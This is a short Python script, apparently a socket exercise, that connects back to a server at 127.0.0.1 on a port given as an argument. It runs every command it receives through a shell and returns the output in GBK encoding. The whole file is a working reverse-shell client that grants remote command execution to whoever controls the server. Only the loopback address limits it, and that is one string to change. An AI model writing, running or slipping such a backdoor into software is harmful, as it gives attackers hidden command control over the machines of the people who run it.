# Roles turned: we connect, the server commands, in GBK.
import socket
import subprocess
import sys

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(20)
s.connect(('127.0.0.1', int(sys.argv[1])))
while True:
    cmd = s.recv(1024).decode('gbk')
    print(cmd)
    if cmd == 'q':
        break
    p = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    out, err = p.communicate()
    out = out.decode().encode('gbk')
    err = err.decode().encode('gbk')
    s.send(str(len(out) + len(err)).encode())
    print(s.recv(1024))
    s.send(out)
    s.send(err)
s.close()
